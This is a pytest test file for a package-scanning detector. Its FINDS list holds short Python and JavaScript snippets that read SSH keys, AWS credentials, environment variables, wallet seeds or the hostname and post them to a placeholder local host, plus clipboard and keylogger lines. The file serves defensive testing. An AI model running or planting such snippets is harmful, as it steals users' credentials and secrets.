"""Theft: what is read and then leaves."""

from __future__ import annotations

from collections.abc import Callable

import pytest

Rules = Callable[..., set[str]]
FINDS = [
    (
        "steals-credentials",
        "wheel",
        "import os, requests\nrequests.post('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    ),
    (
        "steals-credentials",
        "npm",
        (
            "const fs=require('fs');const "
            "h=require('os').homedir();fetch('http://127.0.0.1:9/',{method:'POST',body:fs.readFileSync(h+'/.aws/credentials')})"
        ),
    ),
    (
        "steals-environment",
        "wheel",
        "import os, json, urllib.request as u\nu.urlopen('http://127.0.0.1:9/', data=json.dumps(dict(os.environ)).encode())",
    ),
    (
        "steals-environment",
        "npm",
        "require('https').request({hostname:'127.0.0.1',method:'POST'}).end(JSON.stringify(process.env))",
    ),
    (
        "steals-wallets",
        "wheel",
        (
            "import os, requests\nrequests.post('http://127.0.0.1:9/', files={'f': open(os.getenv('APPDATA') + "
            "'/Exodus/exodus.wallet/seed.seco', 'rb')})"
        ),
    ),
    (
        "sends-host-facts",
        "sdist",
        "import socket, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/?h=' + socket.gethostname())",
    ),
    ("sends-unasked", "wheel", "import requests\nrequests.post('http://127.0.0.1:9/', json={'a': 1})"),
    ("watches-clipboard", "wheel", "import pyperclip\npyperclip.paste()"),
    ("watches-user", "wheel", "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()"),
]
IGNORES = [
    (
        "wheel",
        (
            "import os, requests\nclass Client:\n    def __init__(self):\n        self.key = os.environ.get('API_KEY')\n  "
            "  def get(self):\n        return requests.post('https://api.example.com', headers={'Authorization': "
            "self.key}).json()\n"
        ),
    ),
    (
        "npm",
        (
            "const axios = require('axios');\nexports.get = () => axios.post('https://api.example.com', {}, {headers: "
            "{auth: process.env.API_TOKEN}});"
        ),
    ),
    (
        "wheel",
        "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\ndef paste():\n    return pyperclip.paste()\n",
    ),
    (
        "wheel",
        (
            "import os\ndef load(path='~/.aws/credentials'):\n    with open(os.path.expanduser(path)) as f:\n        "
            "return f.read()\n"
        ),
    ),
]


@pytest.mark.parametrize(("rule", "kind", "code"), FINDS)
def test_it_finds(rule: str, kind: str, code: str, rules_of: Rules) -> None:
    """The behaviour, in its plain form."""
    assert rule in rules_of(_files(code, kind), kind)


@pytest.mark.parametrize(("kind", "code"), IGNORES)
def test_it_lets_honest_code_be(kind: str, code: str, rules_of: Rules) -> None:
    """Nothing of high severity for what uses the same pieces honestly."""
    assert rules_of(_files(code, kind), kind, high=True) == set()


def _files(code: str, kind: str) -> dict[str, str]:
    return {{"npm": "index.js", "sdist": "setup.py"}.get(kind, "inert/__init__.py"): code}
